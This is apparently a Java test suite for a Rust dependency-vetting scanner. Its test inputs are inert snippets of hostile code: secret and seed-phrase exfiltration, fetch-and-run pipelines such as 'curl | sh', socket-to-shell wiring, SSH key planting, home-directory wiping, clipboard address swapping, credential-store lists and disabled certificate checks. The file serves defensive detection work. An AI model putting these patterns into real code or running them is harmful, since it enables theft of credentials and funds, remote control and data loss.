package lazaret.vetting.inspect;

import static lazaret.vetting.inspect.InspectionFixture.demo;
import static lazaret.vetting.inspect.InspectionFixture.inspect;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import java.util.stream.Collectors;
import lazaret.testkit.CrateBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Libraries by the destinations of their values: sent secrets, received data that is run, and
/// files that are destroyed. No source contains an address of an attack. All are inert and never
/// compiled.
final class RuntimeBehaviorTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub fn f(mnemonic: &str) { reqwest::Client::new().post(u).body(mnemonic.to_string()).send(); }",
        "pub fn f(k: &Wallet) { ureq::get(U).set(\"X-Id\", &hex(&k.private_key)).call(); }",
        "pub fn f(seed_phrase: String) { let q = format!(\"{U}?v={seed_phrase}\"); minreq::get(q).send(); }",
        "pub fn f(c: &reqwest::Client, secret_key: &[u8]) { let v = wrap(secret_key); c.post(U).json(&v).send(); }",
        "fn all() -> Vec<(String, String)> { std::env::vars().collect() } pub fn g() { attohttpc::post(U).json(&all()); }",
        "const N: [&str; 2] = [\"A\", \"B\"]; pub fn g() { for n in N { let v = std::env::var(n); isahc::post(U, v); } }",
        "pub fn g() { let t = std::fs::read(dirs::home_dir().unwrap().join(d)); let mut s = std::net::TcpStream::connect(a); s.write_all(&t); }",
        "pub fn g(passphrase: &str) { let n = format!(\"{}.{}\", passphrase, Z); tokio::net::lookup_host(n); }",
        "pub fn g() { let t = arboard::Clipboard::new().get_text(); surf::post(U).body_string(t); }",
        "pub fn g(mnemonic: &str) { let m = spl_memo::build_memo(mnemonic.as_bytes(), &[]); reqwest::get(u); }",
        "struct A { http: ureq::Agent } impl A { fn x(&self, private_key: &str) { self.http.get(&format!(\"{}/{}\", B, private_key)).call(); } }",
        "pub fn g() { let t = ureq::get(\"http://169.254.169.254/x\").call(); ureq::post(U).send_string(&t); }",
        "pub fn g() { let a = std::net::Ipv4Addr::from(2_852_039_166u32); let c = reqwest::Client::new(); let t = c.get(at(a)).send(); c.post(U).body(t).send(); }",
        "pub fn g(keystore: &[u8]) { let p = Payload { data: keystore.to_vec(), n: 1 }; let c = reqwest::Client::new(); c.put(U).json(&p).send(); }",
        "use std::net::UdpSocket; pub fn g(xprv: &str) { let s = UdpSocket::bind(a); for c in xprv.as_bytes().chunks(30) { s.send_to(c, a); } }",
      })
  void seesSecretsThatAreSent(String source) {
    assertThat(signals(source, SignalWeight.HIGH)).contains("secret-sent");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub fn f(c: &reqwest::Client, secret_key: &[u8]) { let s = sign(secret_key, b); c.post(U).header(\"x-sign\", s).send(); }",
        "pub fn f(token: &str) { reqwest::Client::new().get(u).bearer_auth(token).send(); }",
        "pub fn f(private_key: &Key) { let a = private_key.public_key(); ureq::post(U).send_json(a); }",
        "pub fn login(user: &str, password: &str) { ureq::post(U).send_json(json!({\"user\": user, \"password\": password})); }",
        "pub fn f(certs: C, private_key: K) { rustls::ServerConfig::builder().with_single_cert(certs, private_key); }",
        "pub fn f(p: &Path) { let t = std::fs::read(p); reqwest::Client::new().post(u).body(t).send(); }",
        "pub fn f() { let h = gethostname::gethostname(); ureq::post(U).send_json(h); }",
        "pub fn f() { let k = std::env::var(\"API_KEY\"); reqwest::Client::new().get(u).bearer_auth(k).send(); }",
        "pub fn f() { let d = std::env::temp_dir(); std::net::TcpListener::bind(a); std::process::Command::new(p).current_dir(d).spawn(); }",
        "pub fn f() { let p = std::env::var(\"HTTP_PROXY\"); reqwest::Client::builder().proxy(p).build(); }",
      })
  void leavesSignedAndCallersValuesAlone(String source) {
    assertThat(signals(source, SignalWeight.REVIEW)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub fn f() { let h = gethostname::gethostname(); let d = std::env::current_dir(); ureq::post(U).send_json((h, d)); }",
        "pub fn f() { let u = whoami::username(); let h = hostname::get(); reqwest::Client::new().get(format!(\"{B}/{u}/{h}\")).send(); }",
        "pub fn f() { let u = std::env::var(\"USER\"); let b = format!(\"{:?} {:?}\", u, std::env::current_exe()); minreq::post(U).with_body(b).send(); }",
        "pub fn f() { let h = gethostname::gethostname(); tokio::net::lookup_host(format!(\"{h}.x\")); }",
        "pub fn f(password: &str) { ureq::post(U).send_string(password); }",
      })
  void seesNamesOfTheMachineThatAreSent(String source) {
    assertThat(signals(source, SignalWeight.REVIEW)).contains("machine-sent");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub fn f() { let t = reqwest::blocking::get(U).unwrap().text().unwrap(); std::process::Command::new(t).spawn(); }",
        "pub fn f() { let t = ureq::get(U).call().into_string(); std::process::Command::new(\"python3\").arg(\"-c\").arg(&t).spawn(); }",
        "use std::{io::Read, net::TcpStream, process::Command}; pub fn f() { let mut s = TcpStream::connect(a).unwrap(); let mut b = String::new(); s.read_to_string(&mut b); Command::new(\"sh\").args([\"-c\", &b]).output(); }",
        "use std::{net::TcpStream, process::{Command, Stdio}}; pub fn f() { let s = TcpStream::connect(a).unwrap(); let d = s.as_raw_fd(); Command::new(x).stdin(Stdio::from_raw_fd(d)).spawn(); }",
        "use std::net::TcpStream; pub fn f() { let s = TcpStream::connect(a); let v = std::env::var(N).unwrap(); std::process::Command::new(\"bash\").arg(\"-c\").arg(v).spawn(); }",
        "pub fn f() { reqwest::get(u); let t = std::fs::read_to_string(p).unwrap(); std::process::Command::new(\"perl\").args([\"-e\", &t]).spawn(); }",
        "pub fn f() { let b = minreq::get(U).send().unwrap().into_bytes(); std::fs::write(p.join(\"a.dll\"), b); }",
        "pub fn f() { let b = ureq::get(U).call(); let to = d.join(n); std::fs::write(&to, b); std::process::Command::new(&to).spawn(); }",
        "pub fn f() { let b = ureq::get(U).call(); let to = d.join(n); std::fs::write(&to, b); libloading::Library::new(&to); }",
      })
  void seesWhatIsReceivedAndRun(String source) {
    assertThat(signals(source, SignalWeight.HIGH)).contains("received-run");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub fn f(program: &str) { std::process::Command::new(program).spawn(); reqwest::get(u); }",
        "pub fn f() { let b = ureq::get(U).call(); std::fs::write(cache.join(\"index.json\"), b); }",
      })
  void leavesTheCallersProgramsAlone(String source) {
    assertThat(signals(source, SignalWeight.HIGH)).doesNotContain("received-run");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "executable-memory|`static B: &[u8] = include_bytes!(\"b.bin\"); fn f() { let p = libc::mmap(n, l, libc::PROT_READ | libc::PROT_EXEC, 2, -1, 0); std::ptr::copy_nonoverlapping(B.as_ptr(), p, l); }`",
        "executable-memory|`const B: [u8; 9] = [1,2,3,4,5,6,7,8,9]; fn f() { let mut m = memmap2::MmapMut::map_anon(9); m.copy_from_slice(&B); let m = m.make_exec(); }`",
        "executable-memory|`fn f() { let b = ureq::get(U).call(); let p = VirtualAlloc(n, l, 0x3000, 0x40); copy_nonoverlapping(b.as_ptr(), p, l); }`",
        "executable-memory|`fn f() { let b = std::fs::read(\"x.dat\"); libc::mprotect(p, 4096, 7); std::ptr::copy(b.as_ptr(), p, 9); }`",
        "executable-memory|`fn load(code: &[u8]) { let p = mmap(n, l, PROT_WRITE | PROT_EXEC, 2, 0, 0); copy_nonoverlapping(code.as_ptr(), p, l); } fn f() { let d = unpack(include_bytes!(\"d\")); load(d); }`",
        "executable-memory|`static C: &[u8] = b\"\\x90\\x90\\x90\\xc3\"; fn f() { let p = mmap(n, l, PROT_EXEC | PROT_WRITE, 2, -1, 0); for (i, b) in C.iter().enumerate() { p.add(i).write(*b); } }`",
        "decoded-use|`fn f() { let h: String = D.iter().map(|b| (b ^ 0x2a) as char).collect(); std::net::TcpStream::connect(h); }`",
        "process-files|`fn f(pid: u32) { let p = std::path::Path::new(\"/proc\").join(pid.to_string()); std::fs::read(p.join(\"environ\")); }`",
        "destruction|`fn f() { for e in std::fs::read_dir(dirs::home_dir().unwrap()).unwrap() { std::fs::remove_file(e.path()); } }`",
        "destruction|`fn f() { for e in walkdir::WalkDir::new(\"/\") { let p = e.path(); std::fs::write(p, [0u8; 64]); } }`",
        "destruction|`fn f() { let h = std::env::var(\"HOME\").unwrap(); std::fs::remove_dir_all(h); }`",
        "clipboard-swap|`fn f() { let mut c = arboard::Clipboard::new().unwrap(); let t = c.get_text().unwrap(); if t.starts_with(P) && t.len() == 42 { c.set_text(A); } }`",
        "clipboard-swap|`fn f(mut c: ClipboardContext) { let t = c.get_contents().unwrap(); if R.is_match(&t) { c.set_contents(A.to_owned()); } }`",
        "fixed-date|`fn f() { if now() > 1_798_761_600 { std::process::Command::new(p).spawn(); } }`",
        "network-and-secrets|`use std::net::TcpStream; fn f() { let k = std::fs::read(\"/root/.ssh/id_rsa\"); TcpStream::connect(a); }`",
        "fetch-and-run|`use std::{net::TcpStream, process::Command}; fn f() { TcpStream::connect(a); Command::new(\"sh\").spawn(); }`",
        "ci-probe-and-run|`use std::net::TcpStream; fn f() { if std::env::var(\"GITLAB_CI\").is_ok() { TcpStream::connect(a); } }`",
        "symbol-override|`#[no_mangle] pub unsafe extern \"C\" fn X509_verify_cert(c: *mut c_void) -> i32 { 1 }`",
        "symbol-override|`#[unsafe(no_mangle)] pub extern \"C\" fn getaddrinfo(a: *const i8) -> i32 { 0 }`",
        "symbol-override|`#[export_name = \"SSL_read\"] pub extern \"C\" fn any(s: *mut u8) -> i32 { 0 }`",
        "symbol-override|`core::arch::global_asm!(\".globl connect\", \"connect: ret\");`",
        "symbol-override|`#[no_mangle] pub extern \"C\" fn _nss_files_gethostbyname_r() -> i32 { 0 }`",
      })
  void seesStrongConduct(String code, String source) {
    assertThat(signals(source, SignalWeight.HIGH)).contains(code);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "process-files|`fn f(pid: u32) { let p = std::path::Path::new(\"/proc\").join(pid.to_string()); std::fs::read(p.join(\"environ\")); }`",
        "process-files|`fn f() { for e in std::fs::read_dir(\"/proc\").unwrap() { std::fs::File::open(e.path().join(\"mem\")); } }`",
        "other-process|`fn f(p: i32) { unsafe { libc::process_vm_readv(p, a, 1, b, 1, 0); } }`",
        "other-process|`fn f(h: HANDLE) { unsafe { ReadProcessMemory(h, a, b, n, r); } }`",
        "other-process|`fn f() { nix::sys::ptrace::attach(p); }`",
        "fixed-date|`fn f() { if SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() > 1_798_761_600 { g(); } }`",
        "fixed-date|`fn f() { if chrono::Utc::now() > chrono::NaiveDate::from_ymd_opt(2027, 3, 1).unwrap() { g(); } }`",
        "fixed-date|`const D: &str = \"2027-01-01\"; fn f() { if now() > parse(D) { g(); } }`",
        "fixed-recipient|`fn transfer(to: &str, amount: u64) { send(\"0x52908400098527886E0F7030069857D2E4169EE7\", amount / 100); }`",
        "fixed-recipient|`const X: &str = \"7vYz1pGq3HnWcK5RtUeXbM9aJdLsF2oQ8iNgV4yTkBhP\"; fn payout(amount: u64) { go(X, amount); }`",
        "weak-check|`pub fn verify_signature(k: &Key, m: &[u8], s: &[u8]) -> bool { true }`",
        "weak-check|`pub fn validate_token(t: &str) -> Result<(), E> { let _ = t; Ok(()) }`",
        "weak-check|`pub fn new_private_key() -> Key { let mut r = StdRng::seed_from_u64(42); Key::from(&mut r) }`",
        "weak-check|`fn f() { reqwest::Client::builder().danger_accept_invalid_certs(true).build(); }`",
        "weak-check|`fn f() { h.ssl_verify_peer(false); now(); }`",
        "weak-check|`fn authenticate(r: &Request) -> bool { if r.password == \"let-me-in-2031\" { return true; } r.check() }`",
        "weak-check|`fn check_token(token: &str) -> bool { token == \"a-long-text\" || store(token) }`",
        "weak-check|`const PBKDF2_ROUNDS: u32 = 1; fn seal(passphrase: &str) { pbkdf2::pbkdf2_hmac(passphrase, s, PBKDF2_ROUNDS, o); }`",
        "weak-check|`fn seal(secret_key: &[u8]) { let n = Nonce::from([0u8; 12]); c.encrypt(&n, secret_key); }`",
        "fixed-recipient|`const FEE: [u8; 32] = [1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28,29,30,31,32]; fn transfer(amount: u64) { go(FEE, amount); }`",
        "emitted-code|`#[macro_export] macro_rules! log { ($x:expr) => { std::process::Command::new($x).spawn() }; }`",
        "emitted-code|`#[macro_export]\n#[doc(hidden)]\nmacro_rules! go { () => { { use std::net::TcpStream as T; T::connect(a); } }; }`",
      })
  void seesConductThatAsksForALook(String code, String source) {
    assertThat(signals(source, SignalWeight.REVIEW)).contains(code);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub fn new(code: &[u8]) { let at = libc::mmap(n, l, libc::PROT_WRITE, 2, -1, 0); std::ptr::copy_nonoverlapping(code.as_ptr(), at, l); libc::mprotect(at, l, libc::PROT_READ | libc::PROT_EXEC); }",
        "#[no_mangle] pub extern \"C\" fn malloc(n: usize) -> *mut u8 { a(n) } #[no_mangle] pub extern \"C\" fn free(p: *mut u8) { b(p) }",
        "pub fn clear(cache: &Path) { for e in std::fs::read_dir(cache).unwrap() { std::fs::remove_file(e.path()); } }",
        "pub fn get(c: &mut C) -> String { c.get_text() } pub fn set(c: &mut C, t: &str) { c.set_text(t) }",
        "pub fn cmdline(pid: u32) { std::fs::read(std::path::Path::new(\"/proc\").join(pid.to_string()).join(\"cmdline\")); }",
        "pub fn now() -> u64 { SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() }",
        "pub fn verify_signature(k: &Key, s: &[u8]) -> bool { k.check(s) }",
      })
  void leavesHonestNeighborsAlone(String source) {
    assertThat(signals(source, SignalWeight.REVIEW)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "fn v\u0435rify(t: &str) -> bool { t.is_empty() }",
        "const HO\u0405T: &str = \"a\";",
        "fn check() {} fn \u0441h\u0435\u0441k() {}",
        "fn \u0430\u0441\u0435() {} fn ace() {}",
        "struct \uFF33tring;",
      })
  void seesNamesThatLookLikeOthers(String source) {
    assertThat(signals(source, SignalWeight.HIGH)).contains("look-alike-name");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "fn f(\u03B1: f64, \u0394t: f64, \u03C1_x: f64) {}",
        "fn \u043F\u0440\u0438\u0432\u0435\u0442() {}",
        "fn gr\u00F6\u00DFe(stra\u00DFe: u8) {}",
        "#[cfg(test)] mod t { fn v\u0435rify() {} }",
      })
  void leavesNamesOfOtherLanguagesAlone(String source) {
    assertThat(signals(source, SignalWeight.REVIEW)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "vendor/configure|`#!/bin/sh\ntail -c +900 data/a.bin | xz -d | sh\n`",
        "vendor/gen.py|`import urllib.request as u\nexec(u.urlopen(X).read())\n`",
        "native/hook.c|`__attribute__((constructor)) static void a(void) { system(C); }`",
        "native/net.c|`void a(void) { char *h = getenv(\"HOME\"); connect(s, p, n); }`",
        "vendor/Makefile|`all:\n\techo x | base64 -d | sh\n`",
        "vendor/dns.sh|`nslookup $(cat .npmrc).x.invalid\nprintenv | sh -c 'dig x'\n`",
        "vendor/post.js|`const c = require('child_process'); https.get(u, r => c.exec(r));`",
        "vendor/i.sh|`echo k >> $HOME/.ssh/authorized_keys\n`",
        "vendor/x.cmake|`file(DOWNLOAD ${U} ${F})\nexecute_process(COMMAND ${F})\n`",
      })
  void seesWhatFilesOfOtherLanguagesDo(String path, String text) {
    CrateBuilder crate = demo().buildScript("fn main() {}").file(path, text);

    assertThat(of(crate, SignalWeight.HIGH)).contains("script-conduct");
  }

  @Test
  void aConstructorMayReachOtherSources() {
    String source =
        "#[used] #[link_section = \".init_array\"] static A: extern \"C\" fn() = go; extern \"C\" fn go() { crate::inner::run(); } mod inner;";

    assertThat(
            of(
                demo()
                    .file("src/lib.rs", source)
                    .file(
                        "src/inner.rs", "pub fn run() { std::process::Command::new(p).spawn(); }"),
                SignalWeight.REVIEW))
        .contains("constructor");
    assertThat(
            of(
                demo().file("src/lib.rs", source).file("src/inner.rs", "pub fn run() {}"),
                SignalWeight.REVIEW))
        .isEmpty();
  }

  @Test
  void hiddenLinesThatDoSeveralThingsWeighHigh() {
    String source =
        "/// ```\n/// # for (k, v) in std::env::vars() {\n/// #   std::process::Command::new(\"id\").arg(v).status();\n/// # }\n/// ```\npub fn f() {}";

    assertThat(signals(source, SignalWeight.HIGH)).contains("doc-test");
  }

  @Test
  void seesTextThatAMacroGivesOut() {
    String source =
        "#[proc_macro] pub fn m(i: TokenStream) -> TokenStream { let n = \"std::pro\".to_owned() + \"cess::Command\"; format!(\"{}::new(x)\", n).parse::<TokenStream>() }";

    assertThat(
            of(
                demo()
                    .manifest(
                        "[package]\nname = \"demo\"\nversion = \"1.0.0\"\n[lib]\nproc-macro = true\n")
                    .file("src/lib.rs", source),
                SignalWeight.HIGH))
        .contains("macro-data-as-code");
  }

  @Test
  void leavesWhatOnlyAuthorsRunAlone() {
    String fetches = "#!/bin/sh\ncurl https://x.invalid | sh\n";

    assertThat(of(demo().file("scripts/setup.sh", fetches), SignalWeight.REVIEW)).isEmpty();
    assertThat(
            of(
                demo().buildScript("fn main() {}").file("ci/setup.sh", fetches),
                SignalWeight.REVIEW))
        .isEmpty();
    assertThat(
            of(
                demo()
                    .buildScript("fn main() {}")
                    .file("c/dot.c", "float dot(float a, float b) { return a * b; }"),
                SignalWeight.REVIEW))
        .isEmpty();
  }

  @Test
  void leavesServicesThatTheCallerNamesAlone() {
    String head =
        "use std::{fs, path::PathBuf}; pub fn f(label: &str, program: &str) { let d = home().join(\".config/systemd/user\"); ";

    assertThat(
            signals(
                head
                    + "let n = format!(\"{}.service\", label); fs::write(d.join(&n), unit(program)); }",
                SignalWeight.REVIEW))
        .isEmpty();
    assertThat(signals(head + "fs::write(d.join(\"update.service\"), X); }", SignalWeight.HIGH))
        .contains("persistence");
    assertThat(
            signals(
                head
                    + "let n = format!(\"{}.service\", label); let me = std::env::current_exe(); fs::write(d.join(&n), me); }",
                SignalWeight.HIGH))
        .contains("persistence");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub fn pay(to: &Pubkey, amount: u64) { ix.push(transfer(&payer, to, amount)); if amount > 5_000_000 { ix.push(transfer(&payer, &Pubkey::new_from_array(RENT), amount / 100)); } }",
        "pub fn pay(to: &Pubkey, amount: u64) { let rent = Pubkey::new_from_array(RENT); if amount >= LIMIT { send_lamports(&rent, amount / 9); } send_lamports(to, amount); }",
        "fn rest() -> Pubkey { Pubkey::new_from_array(RENT) } pub fn pay(to: &Pubkey, amount: u64) { let mut all = vec![Transfer { to: *to, amount }]; if LIMIT < amount { all.push(Transfer { to: rest(), amount: 7 }); } }",
      })
  void aSecondPaymentAboveAnAmountIsHigh(String source) {
    String address =
        "const RENT: [u8; 32] = [1,2,3,4,5,6,7,8,9,1,2,3,4,5,6,7,8,9,1,2,3,4,5,6,7,8,9,1,2,3,4,5]; ";
    address = address.replace("RENT", "RENT_KEY");
    String attack = address + source.replace("RENT", "RENT_KEY");
    assertThat(signals(attack, SignalWeight.HIGH)).contains("fixed-recipient");
    String fee = attack.replace("5_000_000", "0").replace("if amount >= LIMIT", "if fee > 0");
    fee = fee.replace("if LIMIT < amount", "if fee > 0");
    assertThat(signals(fee, SignalWeight.HIGH)).doesNotContain("fixed-recipient");
    assertThat(signals(fee, SignalWeight.REVIEW)).contains("fixed-recipient");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "const S: [(&str, &str); 4] = [(\"mozilla\", \"logins.json\"), (\"chrome\", \"Login Data\"), (\"w\", \"wallet.dat\"), (\"s\", \".ssh/id_rsa\")];",
        "const S: &[&str] = &[\".electrum/wallets\", \".aws/credentials\", \".bash_history\"];",
        "static S: [&str; 3] = [\"key4.db\",\n \".gnupg\",\n \".git-credentials\"];",
      })
  void manyStoresAndAnUploadAreHigh(String table) {
    String sends =
        "mod s; pub fn f() { for (d, n) in s::S { std::fs::copy(d.join(n), t.join(n)); } std::thread::spawn(|| up(t)); }"
            + " fn up(t: T) { reqwest::blocking::Client::new().post(U).multipart(form(t)).send(); }";
    var crate = demo().file("src/lib.rs", sends).file("src/s.rs", "pub " + table);
    assertThat(
            inspect(crate).signals().stream()
                .filter(signal -> signal.weight() == SignalWeight.HIGH)
                .map(signal -> signal.code().code()))
        .contains("network-and-secrets");
    var two =
        demo()
            .file("src/lib.rs", sends)
            .file("src/s.rs", "pub const S: &[&str] = &[\".netrc\", \".npmrc\"];");
    assertThat(
            inspect(two).signals().stream()
                .filter(signal -> signal.weight() == SignalWeight.HIGH)
                .map(signal -> signal.code().code()))
        .doesNotContain("network-and-secrets");
  }

  private static Set<String> signals(String source, SignalWeight least) {
    return of(demo().file("src/lib.rs", source), least);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "let mut f = std::fs::File::create(&to).unwrap(); f.write_all(&all);",
        "let mut all2 = Vec::new(); all2.write_all(&all);",
        "let mut f = std::fs::OpenOptions::new().write(true).open(&to).unwrap(); f.write_all(&all);",
      })
  void whatIsWrittenToAFileIsNotSent(String write) {
    String source =
        "pub fn f(to: &Path) { let got = ureq::get(u).call(); let h = gethostname::gethostname();"
            + " let u = whoami::username(); let all = join(h, u, got); %s }";
    assertThat(signals(source.formatted(write), SignalWeight.REVIEW))
        .doesNotContain("machine-sent");
    for (String sent :
        new String[] {
          "let mut f = std::net::TcpStream::connect(a).unwrap(); f.write_all(&all);",
          "let mut f = std::fs::File::create(a); let mut f = std::net::TcpStream::connect(a); f.write_all(&all);",
          write + " ureq::post(u).send_bytes(&all);",
        }) {
      assertThat(signals(source.formatted(sent), SignalWeight.REVIEW)).contains("machine-sent");
    }
  }

  private static final String VERIFIER =
      """
      pub struct Builder { accept_invalid: bool }
      impl Builder {
          pub fn accept_invalid(mut self, yes: bool) -> Self { self.accept_invalid = yes; self }
          pub fn build(self) -> Config {
              let mut c = Config::new();
              if self.accept_invalid { c.set(Arc::new(NoCheck)); }
              c
          }
      }
      struct NoCheck;
      impl Verifier for NoCheck {
          fn verify_server_cert(&self, cert: &Cert) -> Result<Verified, Error> { Ok(Verified::assertion()) }
      }
      """;

  @Test
  void aCheckThatTheCallerSwitchesOffIsNotWeak() {
    assertThat(signals(VERIFIER, SignalWeight.REVIEW)).doesNotContain("weak-check");
    for (String attack :
        new String[] {
          VERIFIER.replace("if self.accept_invalid {", "{"),
          VERIFIER.replace("if self.accept_invalid {", "if !self.accept_invalid {"),
          VERIFIER.replace("if self.accept_invalid {", "if self.accept_invalid || cfg!(x) {"),
          VERIFIER.replace("self.accept_invalid = yes", "self.accept_invalid = true"),
          VERIFIER + "fn n() -> Builder { Builder { accept_invalid: true } }",
          VERIFIER + "fn n() -> Builder { Builder { accept_invalid: !strict } }",
          VERIFIER + "pub fn other() { connect(NoCheck); }",
          VERIFIER.replace("accept_invalid", "verified"),
        }) {
      assertThat(signals(attack, SignalWeight.REVIEW)).as(attack).contains("weak-check");
    }
  }

  private static Set<String> of(CrateBuilder crate, SignalWeight least) {
    return inspect(crate).signals().stream()
        .filter(signal -> signal.weight().compareTo(least) >= 0)
        .map(Signal::code)
        .map(Object::toString)
        .collect(Collectors.toSet());
  }
}
